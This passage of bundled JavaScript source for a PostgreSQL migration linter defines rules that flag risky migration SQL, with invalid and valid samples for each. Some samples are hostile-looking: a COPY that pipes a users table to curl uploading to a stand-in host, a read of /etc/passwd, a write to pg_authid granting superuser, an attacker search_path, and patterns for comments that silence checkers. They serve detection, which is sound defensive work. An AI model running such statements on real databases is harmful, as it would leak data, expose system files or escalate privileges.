			message: "Renames column users.email to mail."
		},
		{
			sql: "alter table users set schema archive",
			level: "high",
			message: "Moves table users to schema archive."
		},
		{
			sql: "alter type priority rename value 'normal' to 'usual'",
			level: "high",
			message: "Renames a value of type priority."
		}
	],
	valid: ["create table scratch (id int); alter table scratch rename to notes"],
	check: ({ effects }) => ofKind(effects, "alters").flatMap((effect) => {
		const { object, change, to } = effect;
		const words = wordsOf$1(change, objectName(object), to ?? "");
		if (object.createdHere || words === void 0) return [];
		return [{
			effect,
			level: "high",
			message: words
		}];
	})
});
function wordsOf$1(change, name, to) {
	switch (change) {
		case "rename": return `Renames ${name} to ${to}.`;
		case "set-schema": return `Moves ${name} to schema ${to}.`;
		case "rename-value": return `Renames a value of ${name}.`;
		default: return;
	}
}
const replaceObject = defineRule({
	id: "replace-object",
	axis: "compatibility",
	title: "An object may be replaced by another of the same name",
	why: "If it exists, everything that uses it behaves differently from then on.",
	instead: "Use plain CREATE for a new object; when it replaces one, let the owner of its users approve.",
	invalid: [{
		sql: "create or replace view report as select 1",
		level: "medium",
		message: "Creates or replaces view report."
	}, {
		sql: "create or replace function total() returns int language sql as $$ select 1 $$",
		level: "medium",
		message: "Creates or replaces function total."
	}],
	valid: ["create view report as select 1"],
	check: ({ effects }) => ofKind(effects, "creates").filter(({ replaces }) => replaces).map((effect) => ({
		effect,
		level: "medium",
		message: `Creates or replaces ${objectName(effect.object)}.`
	}))
});
const requiredColumn = defineRule({
	id: "required-column",
	axis: "compatibility",
	title: "A new column must be filled, and nothing fills it",
	why: "It fails if the table holds a row, and clients that do not know the column yet can no longer insert.",
	instead: "Give it a constant default, or add it without NOT NULL, fill it, and require it when every client fills it.",
	invalid: [{
		sql: "alter table users add column tenant bigint not null",
		level: "medium",
		message: "Adds column users.tenant, which must be filled and has no default."
	}],
	valid: [
		"alter table users add column tenant text not null default ''",
		"alter table users add column tenant bigint",
		"create table scratch (id int); alter table scratch add column note text not null"
	],
	counterfactual: {
		level: "low",
		when: "it has a constant default",
		with: ["alter table users add column tenant bigint not null default 0"]
	},
	check: ({ effects, scripts }) => {
		const required = new Set(declarationsOf(scripts, "column").filter(({ added, notNull, filled }) => added && notNull && !filled).map((column) => `${statementOf$1(column)} ${column.column}`));
		return ofKind(effects, "alters").filter(({ change, object }) => change === "add-column" && !object.createdHere).filter((effect) => required.has(`${statementOf$1(effect)} ${effect.object.part ?? ""}`)).map((effect) => ({
			effect,
			level: "medium",
			message: `Adds ${objectName(effect.object)}, which must be filled and has no default.`
		}));
	}
});
const rowLocks = defineRule({
	id: "row-locks",
	axis: "lock",
	title: "Every row of a table is locked",
	why: "Whoever writes to any row waits until the whole transaction ends, and each lock is written to disk.",
	instead: "Lock only the rows that the change is about, by their key.",
	invalid: [{
		sql: "select id from users for update",
		level: "medium",
		message: "Locks every row of table users."
	}],
	valid: ["select id from users where id = 1 for update"],
	check: ({ effects, scripts }) => {
		const created = createdTables(effects);
		return traitsOf(scripts, "locks-rows").filter(({ table }) => !created.has(tableOf$1(table))).map((effect) => ({
			effect,
			level: "medium",
			message: `Locks every row of table ${writtenTable(effect.table)}.`
		}));
	}
});
const rowSecurityWithoutPolicy = defineRule({
	id: "row-security-without-policy",
	axis: "privilege",
	title: "Row security is enabled, and the change brings no policy",
	why: "Unless the table has policies already, everybody but its owner sees no row of it from then on.",
	instead: "Create the policies in the same change, before row security is enabled.",
	invalid: [{
		sql: "alter table orders enable row level security",
		level: "medium",
		message: "Enables row security of table orders without a policy."
	}],
	valid: ["create policy own on orders using (user_id = 1); alter table orders enable row level security", "create table notes (id int); alter table notes enable row level security"],
	check: ({ effects }) => {
		const withPolicy = /* @__PURE__ */ new Set();
		return effects.flatMap((effect) => {
			if (effect.kind === "creates" && effect.object.kind === "policy") withPolicy.add(tableOf$1(effect.object));
			if (effect.kind !== "alters" || effect.change !== "enable-row-security") return [];
			const { object } = effect;
			if (object.createdHere || withPolicy.has(tableOf$1(object))) return [];
			return [{
				effect,
				level: "medium",
				message: `Enables row security of ${objectName(object)} without a policy.`
			}];
		});
	}
});
/** What the comments of a text say, without their marks; those inside of code that it carries, too. */
function commentsOf(text) {
	if (!text.includes("--") && !text.includes("/*")) return [];
	return [...codeTokensOf(text)].filter(({ kind }) => kind === "comment").map(({ start, end }) => ({
		index: start,
		text: wordsOf(text.slice(start, end))
	}));
}
function wordsOf(comment) {
	return comment.startsWith("--") ? comment.slice(2) : comment.slice(2, -2);
}
/** How each tool marks parts of a file in comments; what `undoes` marks, every other runner runs as well. */
const directives = [
	{
		tool: "goose",
		mark: /^\+goose\s/i,
		undoes: /^\+goose\s+down\b/i
	},
	{
		tool: "sql-migrate",
		mark: /^\+migrate\s/i,
		undoes: /^\+migrate\s+down\b/i
	},
	{
		tool: "micrate",
		mark: /^\+micrate\s/i,
		undoes: /^\+micrate\s+down\b/i
	},
	{
		tool: "dbmate",
		mark: /^migrate:(?:up|down)\b/i,
		undoes: /^migrate:down\b/i
	},
	{
		tool: "rambler",
		mark: /^rambler\s+(?:up|down)\b/i,
		undoes: /^rambler\s+down\b/i
	},
	{
		tool: "MyBatis",
		mark: /^\/\/\s*@undo\b/i,
		undoes: /^\/\/\s*@undo\b/i
	},
	{
		tool: "Liquibase",
		mark: /^(?:liquibase\s+formatted|changeset\s+\S+:|rollback\s|preconditions?[\s-])/i,
		undoes: /^rollback\s/i
	},
	{
		tool: "node-pg-migrate",
		mark: /^(?:up|down)\s+migration\b/i,
		undoes: /^down\s+migration\b/i
	},
	{
		tool: "Play",
		mark: /^-*\s*!(?:ups|downs)\b/i,
		undoes: /^-*\s*!downs\b/i
	},
	{
		tool: "graphile-migrate",
		mark: /^!\s*(?:include|split|no-transaction)\b/i,
		undoes: void 0
	},
	{
		tool: "Drizzle",
		mark: /^> ?statement-breakpoint\b/i,
		undoes: void 0
	},
	{
		tool: "sqlx",
		mark: /^no-transaction\b/i,
		undoes: void 0
	},
	{
		tool: "Atlas",
		mark: /^atlas:(?!nolint)\w+/i,
		undoes: void 0
	}
];
const mayHold$2 = /\+(?:goose|migrate|micrate)|migrate:|rambler|@undo|liquibase|changeset|rollback|precondition|migration|atlas:|! *(?:ups|downs|include|split)|no-transaction|statement-breakpoint/i;
const runnerDirective = defineRule({
	id: "runner-directive",
	axis: "concealment",
	title: "A comment steers a migration tool",
	why: "Only that tool knows what the comment means: whatever else runs the file runs the part that undoes the change, too.",
	instead: "Name the tool’s layout in the policy, or keep only what is to run in the file.",
	invalid: [
		{
			sql: "-- +goose Up\nselect 1;\n-- +goose Down\nselect 2",
			level: "high",
			message: "Holds a part that only goose knows not to run: +goose Down."
		},
		{
			sql: "-- migrate:down\nselect 1",
			level: "high",
			message: "Holds a part that only dbmate knows not to run: migrate:down."
		},
		{
			sql: "--liquibase formatted sql\n--changeset ada:1\nselect 1",
			level: "medium",
			message: "Is written for Liquibase: liquibase formatted sql."
		},
		{
			sql: "--//@UNDO\nselect 1",
			level: "high",
			message: "Holds a part that only MyBatis knows not to run: //@UNDO."
		},
		{
			sql: "-- +migrate StatementBegin\nselect 1",
			level: "medium",
			message: "Is written for sql-migrate: +migrate StatementBegin."
		},
		{
			sql: "-- no-transaction\nselect 1",
			level: "medium",
			message: "Is written for sqlx: no-transaction."
		}
	],
	valid: [
		"-- The rollback of this migration: none is needed.\nselect 1",
		"select '-- +goose Down'",
		"-- goose migrations ran here before.\nselect 1"
	],
	check: ({ scripts }) => scripts.filter(({ source }) => mayHold$2.test(source.text)).flatMap((script) => marksOf(script, directivesIn(script.source.text)).map((effect) => ({
		effect,
		place: effect.place,
		level: effect.level,
		message: effect.message
	})))
});
/** One a tool: the first that undoes, else the first. */
function directivesIn(text) {
	const comments = commentsOf(text).map((comment) => ({
		...comment,
		text: comment.text.trim()
	}));
	return directives.flatMap(({ tool, mark, undoes }) => {
		const undoing = comments.find((comment) => undoes?.test(comment.text));
		const first = undoing ?? comments.find((comment) => mark.test(comment.text));
		if (first === void 0) return [];
		const words = first.text.split("\n", 1)[0] ?? "";
		return undoing === void 0 ? [{
			...first,
			level: "medium",
			message: `Is written for ${tool}: ${words}.`
		}] : [{
			...first,
			level: "high",
			message: `Holds a part that only ${tool} knows not to run: ${words}.`
		}];
	}).toSorted((a, b) => a.index - b.index);
}
/** Statements that take a secret as a literal. */
const tags = /* @__PURE__ */ new Set([
	"CreateRoleStmt",
	"AlterRoleStmt",
	"CreateUserMappingStmt",
	"AlterUserMappingStmt",
	"CreateForeignServerStmt",
	"AlterForeignServerStmt",
	"CreateSubscriptionStmt",
	"AlterSubscriptionStmt"
]);
/** Inside a literal: a connection string or a URL that carries a password. */
const connection = /\bpassword=[^\s'"]|[a-z]:\/\/[^\s/@']+:[^\s/@']+@/i;
const secretInText = defineRule({
	id: "secret-in-text",
	axis: "sensitivity",
	title: "A password stands in the change",
	why: "Everybody who can read the repository or the server’s log knows it from then on, and history keeps it.",
	instead: "Set the password outside of the change, from where secrets are kept, and replace this one.",
	invalid: [
		{
			sql: "alter role app password 'hunter2'",
			level: "high",
			message: "Holds a password in plain text."
		},
		{
			sql: "create role worker login encrypted password 'hunter2'",
			level: "high",
			message: "Holds a password in plain text."
		},
		{
			sql: "alter role app /* new */ password /* = */ $$hunter2$$",
			level: "high",
			message: "Holds a password in plain text."
		}
	],
	valid: ["select 'password ''hunter2'''", "comment on role app is 'has no password'"],
	check: ({ scripts }) => scripts.flatMap(({ unitId, statements }) => statements.flatMap((statement, index) => holdsSecret(statement) ? [{
		effect: {
			unitId,
			statement: index,
			source: "static"
		},
		level: "high",
		message: "Holds a password in plain text."
	}] : []))
});
function holdsSecret(statement) {
	if (statement.kind === "unparsed" || !tags.has(statement.tag)) return false;
	const words = [...tokensOf(statement.text)].filter(({ kind }) => kind !== "space" && kind !== "comment").map(({ start, end }) => statement.text.slice(start, end));
	return words.some((word, index) => connection.test(word) || /^password$/i.test(word) && isSecret(words[index + 1] ?? ""));
}
function isSecret(literal) {
	return /^(?:[eEuU]&?)?['$]./.test(literal) && literal !== "''";
}
const sensitiveCopy = defineRule({
	id: "sensitive-copy",
	axis: "sensitivity",
	title: "Personal or secret values are copied into another table",
	why: "The copy has none of the privileges, policies and masking rules that guard the original.",
	instead: "Copy the key and read the rest where it is guarded, or give the copy the same guards first.",
	invalid: [{
		sql: "create table mailing as select id, email from users",
		level: "medium",
		message: "Copies email into table mailing."
	}, {
		sql: "select id, email into mailing from users",
		level: "medium",
		message: "Copies email into table mailing."
	}],
	valid: ["create table adults as select id, age from users where age > 17"],
	check: ({ effects, scripts, catalog }) => {
		const created = createdTables(effects);
		return traitsOf(scripts, "copies").flatMap((effect) => {
			if (effect.from.every((table) => created.has(tableOf$1(table)))) return [];
			const named = effect.columns.filter(isSensitive);
			const known = effect.everything ? columnsOf(effect, catalog.facts) : [];
			const columns = [.../* @__PURE__ */ new Set([...named, ...known])];
			if (columns.length === 0) return [];
			return [{
				effect,
				level: "medium",
				message: `Copies ${columns.join(", ")} into table ${writtenTable(effect.into)}.`,
				...known.length > 0 ? { usesFacts: true } : {}
			}];
		});
	}
});
/** The sensitive columns behind an asterisk, where facts tell. */
function columnsOf({ from }, facts) {
	return (facts?.relations ?? []).filter((relation) => from.some((table) => mayMean(table, relation))).flatMap(({ columns }) => columns.map(({ name }) => name).filter(isSensitive));
}
const sequenceBurn = defineRule({
	id: "sequence-burn",
	axis: "reversibility",
	title: "A sequence is drawn from row by row, and no row keeps the values",
	why: "Rolling back does not return them: a sequence runs dry sooner, and a rehearsal on the server itself would do it, too.",
	instead: "Use setval() once, in a change that says why.",
	invalid: [{
		sql: "select nextval('ids') from generate_series(1, 1000)",
		level: "medium",
		message: "Draws values of a sequence that no row keeps."
	}],
	valid: ["select nextval('ids')", "insert into users (id) select nextval('ids') from generate_series(1, 3)"],
	check: ({ scripts }) => traitsOf(scripts, "burns-sequence").map((effect) => ({
		effect,
		level: "medium",
		message: "Draws values of a sequence that no row keeps."
	}))
});
const sequenceOptions = defineRule({
	id: "sequence-options",
	axis: "compatibility",
	title: "A sequence counts differently",
	why: "It may give values that rows have already, or none: inserts then fail, one after the other.",
	instead: "Leave the sequence alone, or say which values are in use and why none of them comes again.",
	invalid: [{
		sql: "alter sequence ids cycle",
		level: "medium",
		message: "Changes cycle of sequence ids."
	}, {
		sql: "alter sequence ids increment by -1",
		level: "medium",
		message: "Changes increment of sequence ids."
	}],
	valid: ["alter sequence ids cache 20"],
	check: ({ effects, scripts }) => {
		const created = createdObjects(effects, "sequence");
		return traitsOf(scripts, "sequence-option").filter(({ sequence }) => !created.has(writtenTable(sequence))).map((effect) => ({
			effect,
			level: "medium",
			message: `Changes ${effect.option} of sequence ${writtenTable(effect.sequence)}.`
		}));
	}
});
const serialColumn = defineRule({
	id: "serial-column",
	axis: "design",
	default: "off",
	title: "A column is numbered by serial",
	why: "Its sequence has privileges and a default of its own, which a copy of the table or a role easily misses.",
	instead: "Use GENERATED BY DEFAULT AS IDENTITY.",
	invalid: [{
		sql: "create table notes (id bigserial)",
		level: "low",
		message: "Column notes.id is numbered by bigserial."
	}],
	valid: ["create table notes (id bigint generated by default as identity)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => /serial/.test(type)).map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} is numbered by ${effect.type}.`
	}))
});
const serverAccess = defineRule({
	id: "server-access",
	axis: "privilege",
	title: "The change reaches beyond the database",
	why: "Files, programs, libraries, other servers and sessions are outside of what a rollback undoes.",
	instead: "Let an administrator do it outside of a governed change.",
	invalid: [
		{
			sql: "copy users to program 'curl -T - https://example.test'",
			level: "critical",
			message: "Reaches the server: copy program."
		},
		{
			sql: "select pg_read_file('/etc/passwd')",
			level: "critical",
			message: "Reaches the server: pg_read_file()."
		},
		{
			sql: "create extension pgcrypto",
			level: "high",
			message: "Reaches the server: create extension."
		},
		{
			sql: "select pg_terminate_backend(1)",
			level: "high",
			message: "Reaches the server: pg_terminate_backend()."
		},
		{
			sql: "select pg_notify('jobs', '')",
			level: "high",
			message: "Reaches the server: pg_notify()."
		},
		{
			sql: "alter system set fsync = 'off'",
			level: "critical",
			message: "Reaches the server: alter system fsync."
		}
	],
	valid: ["insert into users (id) values (1)"],
	check: ({ effects }) => ofKind(effects, "accesses-server").map((effect) => ({
		effect,
		level: effect.how === "session" || effect.how === "library" ? "high" : "critical",
		message: `Reaches the server: ${effect.detail}.`,
		unknown: true
	}))
});
/** Settings that neither weaken a protection nor change what a name means. */
const harmless = /* @__PURE__ */ new Set([
	"lock_timeout",
	"statement_timeout",
	"idle_in_transaction_session_timeout",
	"transaction_timeout",
	"application_name",
	"timezone",
	"datestyle",
	"intervalstyle",
	"work_mem",
	"maintenance_work_mem",
	"max_parallel_maintenance_workers",
	"client_min_messages",
	"transaction",
	"constraint_exclusion"
]);
/** Settings that already have a rule of their own. */
const elsewhere = /* @__PURE__ */ new Set([
	"standard_conforming_strings",
	"backslash_quote",
	"escape_string_warning",
	"client_encoding",
	"names"
]);
const sessionSetting = defineRule({
	id: "session-setting",
	axis: "privilege",
	title: "A setting changes protections or the meaning of names",
	why: "Triggers, row security, roles or the search path no longer work as the reviewers assume.",
	instead: "Qualify names with their schema and leave roles and protections to the runner.",
	invalid: [
		{
			sql: "set session_replication_role = replica",
			level: "high",
			message: "Sets session_replication_role to replica."
		},
		{
			sql: "set search_path = attacker, public",
			level: "high",
			message: "Sets search_path to attacker, public."
		},
		{
			sql: "reset all",
			level: "high",
			message: "Sets all to its default."
		},
		{
			sql: "set lock_timeout = 0",
			level: "medium",
			message: "Sets lock_timeout to 0."
		},
		{
			sql: "set lock_timeout = '1h'",
			level: "medium",
			message: "Sets lock_timeout to 1h."
		},
		{
			sql: "alter role app set work_mem = '1GB'",
			level: "high",
			message: "Sets work_mem to 1GB for a role."
		}
	],
	valid: ["set local statement_timeout = '30s'"],
	check: ({ effects }) => ofKind(effects, "sets").flatMap((effect) => {
		const level = levelOf(effect);
		return level === void 0 ? [] : [{
			effect,
			level,
			message: messageOf(effect)
		}];
	})
});
function levelOf(effect) {
	const { setting, scope, value = "" } = effect;
	if (elsewhere.has(setting) || fixesPath(effect)) return void 0;
	if ([
		"role",
		"database",
		"system"
	].includes(scope) || !harmless.has(setting)) return "high";
	if (readsDatesOtherwise(setting, value)) return "high";
	return setting.endsWith("_timeout") && isNoLimit(setting, value) ? "medium" : void 0;
}
/** A search path that is fixed for one function is a protection; without a value it is taken away. */
function fixesPath({ scope, setting, value = "" }) {
	return scope === "function" && setting === "search_path" && value !== "";
}
/** `01/02/2024` is the second of January by default. */
function readsDatesOtherwise(setting, value) {
	return setting === "datestyle" && /\b(?:dmy|ymd|sql|postgres|german|euro\w*|noneuro\w*)\b/i.test(value);
}
const milliseconds = {
	ms: 1,
	s: 1e3,
	min: 6e4,
	h: 36e5,
	d: 864e5
};
/** Zero switches it off, and a lock that is waited for longer than a minute holds up everybody behind it. */
function isNoLimit(setting, value) {
	if (value.startsWith("0")) return true;
	const [, count = "", unit = "ms"] = /^(\d+) *(ms|s|min|h|d)?$/.exec(value) ?? [];
	return setting === "lock_timeout" && Number(count) * (milliseconds[unit] ?? 1) > 6e4;
}
function messageOf({ setting, scope, value }) {
	return `Sets ${setting} ${value === void 0 ? "to its default" : `to ${value}`}${scope === "session" || scope === "transaction" ? "" : ` for a ${scope}`}.`;
}
const severalLockedTables = defineRule({
	id: "several-locked-tables",
	default: "off",
	axis: "lock",
	title: "Several tables are locked in one transaction",
	why: "The first stays locked while the change waits for the others, and a client that takes them in another order ends in a deadlock.",
	instead: "Change one table in a file.",
	invalid: [{
		sql: "alter table users add column note text; alter table orders add column note text",
		level: "low",
		message: "Locks table orders while table users is locked."
	}],
	valid: ["alter table users add column note text; alter table users add column hint text"],
	check: ({ effects }) => {
		const held = /* @__PURE__ */ new Map();
		return ofKind(effects, "locks").flatMap((effect) => {
			const { object, mode, unitId } = effect;
			if (mode !== "ACCESS EXCLUSIVE" || object.createdHere) return [];
			const first = held.get(unitId) ?? tableOf$1(object);
			held.set(unitId, first);
			if (first === tableOf$1(object)) return [];
			return [{
				effect,
				level: "low",
				message: `Locks table ${writtenTable(object)} while table ${first.replace(/^\./, "")} is locked.`
			}];
		});
	}
});
/** Types of at most four bytes, as PostgreSQL and people write them. */
const small = /* @__PURE__ */ new Set([
	"int4",
	"int2",
	"serial",
	"serial4",
	"smallserial",
	"serial2"
]);
const smallPrimaryKey = defineRule({
	id: "small-primary-key",
	axis: "design",
	default: "off",
	title: "A primary key can run out of numbers",
	why: "After 2,147,483,647 rows, deleted ones included, nothing can be inserted, and changing the type rewrites the table.",
	instead: "Use bigint.",
	invalid: [{
		sql: "create table notes (id int primary key)",
		level: "low",
		message: "Key notes.id is int4 and can run out of numbers."
	}, {
		sql: "create table notes (id serial, primary key (id))",
		level: "low",
		message: "Key notes.id is serial and can run out of numbers."
	}],
	valid: ["create table notes (id bigint primary key, pages int)", "create table notes (id uuid primary key)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type, isKey }) => isKey && small.has(type)).map((effect) => ({
		effect,
		level: "low",
		message: `Key ${effect.table}.${effect.column} is ${effect.type} and can run out of numbers.`
	}))
});
/** Words at the start of a comment by which tools that check SQL are told to be silent. */
const suppressions = [
	/^[\w.]+[-:](?:ignore|disable|suppress|nolint|skip)(?:[-:](?:next|file|line|all|start|begin))*(?:-line)?(?![\w-])/i,
	/^(?:noqa|nolint|nosec|nosemgrep|nosonar)\b/i,
	/^(?:squawk|pgfence|migrationpilot|eugene|atlas|sqlfluff|sqlcheck|schemalint|sluice)\s*[:-]/i,
	/^(?:pgt|pgls|pg_lint|biome|eslint|sql-lint|strong_migrations|checkov|tfsec|trivy|gitleaks)[-:]\w*(?:ignore|disable|skip|allow|nolint|assured)/i,
	/^(?:safety[_ -]assured|lint:(?:ignore|disable|off)|pragma:\s*allowlist|codeql\s*\[|lgtm\s*\[)/i
];
const mayHold$1 = /ignore|disable|suppress|nolint|skip|noqa|no(?:sec|semgrep|sonar)|allow|assured|squawk|pgfence|migrationpilot|eugene|atlas|sqlfluff|sqlcheck|schemalint|sluice|lint:|codeql|lgtm/i;
const suppressionComment = defineRule({
	id: "suppression-comment",
	axis: "concealment",
	title: "A comment tells a checking tool to be silent",
	why: "Whoever writes the change decides with it what nobody is told about the change.",
	instead: "Leave the comment out; let whoever guards the policy allow an exception there.",
	invalid: [
		{
			sql: "-- squawk-ignore-file\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: squawk-ignore-file."
		},
		{
			sql: "select 1 -- noqa: disable=all",
			level: "medium",
			message: "Tells a checking tool to be silent: noqa: disable=all."
		},
		{
			sql: "-- atlas:nolint destructive\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: atlas:nolint destructive."
		},
		{
			sql: "/* eslint-disable-next-line */ select 1",
			level: "medium",
			message: "Tells a checking tool to be silent: eslint-disable-next-line."
		},
		{
			sql: "-- pgfence-ignore: drop-table\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: pgfence-ignore: drop-table."
		},
		{
			sql: "-- pgt-ignore lint/safety/banDropTable: it is empty\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: pgt-ignore lint/safety/banDropTable: it is empty."
		},
		{
			sql: "-- sluice:ignore drop-table\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: sluice:ignore drop-table."
		},
		{
			sql: "do $$ begin /* migrationpilot-disable-file */ perform 1; end $$",
			level: "medium",
			message: "Tells a checking tool to be silent: migrationpilot-disable-file."
		}
	],
	valid: [
		"-- We ignore rows without an address, and disable nothing.\nselect 1",
		"select '-- squawk-ignore-file'",
		"-- Disable the old flag: see the atlas of flags.\nselect 1"
	],
	check: ({ scripts }) => scripts.filter(({ source }) => mayHold$1.test(source.text)).flatMap((script) => {
		return marksOf(script, commentsOf(script.source.text).map(({ index, text }) => ({
			index,
			text: text.replace(/^[\s*!#-]+|[\s*]+$/g, "")
		})).filter(({ text }) => suppressions.some((pattern) => pattern.test(text)))).map((effect) => ({
			effect,
			place: effect.place,
			level: "medium",
			message: `Tells a checking tool to be silent: ${effect.text.split("\n", 1)[0] ?? ""}.`
		}));
	})
});
const swallowedError = defineRule({
	id: "swallowed-error",
	axis: "concealment",
	title: "Code goes on after any error",
	why: "The change counts as applied although a part of it was undone, and nobody hears why.",
	instead: "Name the one error that is expected, or raise it again at the end of the handler.",
	invalid: [{
		sql: "do $$ begin perform 1; exception when others then null; end $$",
		level: "medium",
		message: "Goes on after any error, as if nothing had happened."
	}],
	valid: ["do $$ begin perform 1; exception when duplicate_object then null; end $$", "do $$ begin perform 1; exception when others then raise notice 'no'; raise; end $$"],
	check: ({ scripts }) => traitsOf(scripts, "swallows-errors").map((effect) => ({
		effect,
		level: "medium",
		message: "Goes on after any error, as if nothing had happened."
	}))
});
const systemCatalogWrite = defineRule({
	id: "system-catalog-write",
	axis: "privilege",
	title: "PostgreSQL’s own tables are changed",
	why: "A catalog that is changed by hand can lose objects, privileges or the whole database.",
	instead: "Use the statement that PostgreSQL offers for it.",
	invalid: [{
		sql: "update pg_catalog.pg_authid set rolsuper = true where rolname = 'app'",
		level: "critical",
		message: "Changes table pg_catalog.pg_authid, which belongs to PostgreSQL."
	}, {
		sql: "delete from pg_depend where objid = 1",
		level: "critical",
		message: "Changes table pg_depend, which belongs to PostgreSQL."
	}],
	valid: ["select relname from pg_class"],
	check: ({ effects }) => effects.flatMap((effect) => {
		const object = changedObject(effect);
		if (object === void 0 || !isSystem(object)) return [];
		return [{
			effect,
			level: "critical",
			message: `Changes ${objectName(object)}, which belongs to PostgreSQL.`,
			destructive: true,
			denies: true
		}];
	})
});
function changedObject(effect) {
	if (effect.source === "observed") return void 0;
	if (effect.kind === "writes" || effect.kind === "truncates") return effect.object;
	return effect.kind === "drops" || effect.kind === "alters" ? effect.object : void 0;
}
function isSystem({ kind, schema, name }) {
	if (kind === "role" || kind === "database") return false;
	if (schema === "pg_catalog" || schema === "information_schema") return true;
	return schema === void 0 && name.startsWith("pg_") && (kind === "table" || kind === "schema");
}
const tableWithoutComment = defineRule({
	id: "table-without-comment",
	axis: "design",
	default: "off",
	title: "A table is created without a comment",
	why: "Whoever finds the table in the database cannot tell what its rows are.",
	instead: "Add COMMENT ON TABLE to the change.",
	invalid: [{
		sql: "create table notes (id bigint)",
		level: "low",
		message: "Table notes has no comment."
	}],
	valid: ["create table notes (id bigint); comment on table notes is 'What people wrote down.'", "create temp table notes (id bigint)"],
	check: ({ scripts }) => {
		const commented = new Set(declarationsOf(scripts, "table-comment").map(({ table }) => table));
		return declarationsOf(scripts, "table").filter(({ table, temporary }) => !temporary && !commented.has(table)).map((effect) => ({
			effect,
			level: "low",
			message: `Table ${effect.table} has no comment.`
		}));
	}
});
const tableWithoutPrimaryKey = defineRule({
	id: "table-without-primary-key",
	axis: "design",
	default: "off",
	title: "A table is created without a primary key",
	why: "Two rows can be the same, and logical replication cannot say which row was updated or deleted.",
	instead: "Give the table a primary key in the statement that creates it.",
	invalid: [{
		sql: "create table notes (id bigint)",
		level: "low",
		message: "Table notes has no primary key."
	}],
	valid: [
		"create table notes (id bigint primary key)",
		"create table notes (id bigint, primary key (id))",
		"create table notes (like users including all)",
		"create temp table notes (id bigint)"
	],
	check: ({ scripts }) => declarationsOf(scripts, "table").filter(({ hasPrimaryKey, derived, temporary }) => !hasPrimaryKey && !derived && !temporary).map((effect) => ({
		effect,
		level: "low",
		message: `Table ${effect.table} has no primary key.`
	}))
});
const timestampWithoutTimeZone = defineRule({
	id: "timestamp-without-time-zone",
	axis: "design",
	default: "off",
	title: "A column holds times of no time zone",
	why: "What moment a value means depends on who reads it.",
	instead: "Use timestamptz.",
	invalid: [{
		sql: "create table notes (created timestamp)",
		level: "low",
		message: "Column notes.created holds times of no time zone."
	}, {
		sql: "alter table users add column seen timestamp(3)",
		level: "low",
		message: "Column users.seen holds times of no time zone."
	}],
	valid: ["create table notes (created timestamptz, day date)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "timestamp").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} holds times of no time zone.`
	}))
});
const transactionControl = defineRule({
	id: "transaction-control",
	axis: "reversibility",
	title: "The change controls its transaction",
	why: "Whatever follows a COMMIT or ROLLBACK escapes the rehearsal and cannot be undone as a whole.",
	instead: "Leave BEGIN and COMMIT out, or use exactly one pair around the whole file.",
	invalid: [{
		sql: "commit",
		level: "critical",
		message: "Controls the transaction: commit."
	}, {
		sql: "begin; select 1; savepoint a; commit",
		level: "critical",
		message: "Controls the transaction: savepoint."
	}],
	valid: ["begin; create table scratch (id int); commit"],
	check: ({ effects, scripts }) => {
		const all = ofKind(effects, "controls-transaction");
		const enclosing = enclosingStatements(all, scripts);
		return all.filter((effect) => effect.via !== "direct" || !enclosing.has(statementOf$1(effect))).map((effect) => ({
			effect,
			level: "critical",
			message: `Controls the transaction: ${effect.action}.`,
			denies: true
		}));
	}
});
/** BEGIN as the first and COMMIT as the last statement of a unit are taken as the unit's own. */
function enclosingStatements(all, scripts) {
	const direct = all.filter(({ via }) => via === "direct");
	const begins = new Set(direct.filter(({ action }) => starts.has(action)).map(statementOf$1));
	const commits = new Set(direct.filter(({ action }) => action === "commit").map(statementOf$1));
	return new Set(scripts.flatMap(({ unitId, statements }) => {
		const last = statements.length - 1;
		const pair = [0, last].map((statement) => statementOf$1({
			unitId,
			statement
		}));
		const [begin = "", commit = ""] = pair;
		return last > 0 && begins.has(begin) && commits.has(commit) ? pair : [];
	}));
}
const starts = /* @__PURE__ */ new Set(["begin", "start"]);
const truncate = defineRule({
	id: "truncate",
	axis: "data-loss",
	title: "A table is emptied",
	why: "Every row is gone without firing delete triggers; CASCADE empties the tables that refer to it too.",
	instead: "Delete the rows that are meant, by key, or let the table’s owner approve that all of them go.",
	invalid: [{
		sql: "truncate public.orders",
		level: "critical",
		message: "Empties table public.orders."
	}, {
		sql: "truncate table orders cascade",
		level: "critical",
		message: "Empties table orders and every table that refers to it."
	}],
	valid: ["create table scratch (id int); truncate scratch"],
	counterfactual: {
		level: "medium",
		when: "only the rows that are meant are deleted, by their key",
		with: ["delete from orders where id = 7"]
	},
	check: ({ effects }) => ofKind(effects, "truncates").flatMap((effect) => {
		const { object, cascade } = effect;
		if (!isNamed$1(effect)) return [];
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and every table that refers to it" : "";
		return [{
			effect,
			level: "critical",
			message: `Empties ${sizedName(object)}${more}.`,
			destructive: true,
			...factsOn(object)
		}];
	})
});
const kept = "archive_of_all_orders_that_were_cancelled_by_customers_in_2024_a";
const truncatedName = defineRule({
	id: "truncated-name",
	axis: "concealment",
	title: "A name is cut to another one",
	why: "PostgreSQL keeps 63 bytes of a name: the longer one means the object that the shorter one names.",
	instead: "Give both objects names of at most 63 bytes.",
	invalid: [{
		sql: `create table ${kept.slice(0, 63)} (id bigint); comment on table ${kept.slice(0, 63)}_copy is 'x'`,
		level: "high",
		message: `The name ${kept.slice(0, 63)}_copy is cut to ${kept.slice(0, 63)}, which the change names as well.`
	}, {
		sql: `create table ${kept}_one (id bigint); create table if not exists ${kept}_two (id bigint)`,
		level: "high",
		message: `The name ${kept}_two is cut to ${kept.slice(0, 63)}, which the change names as well.`
	}],
	valid: [`create table ${kept.slice(0, 63)} (id bigint)`, `create table ${kept}_b (id bigint); comment on table ${kept}_b is 'x'`],
	check: ({ scripts }) => {
		if (!scripts.some(({ source }) => mayHold(source.text))) return [];
		const first = /* @__PURE__ */ new Map();
		const isCutToAnother = ({ name }) => {
			const short = keptName(name);
			const known = first.get(short);
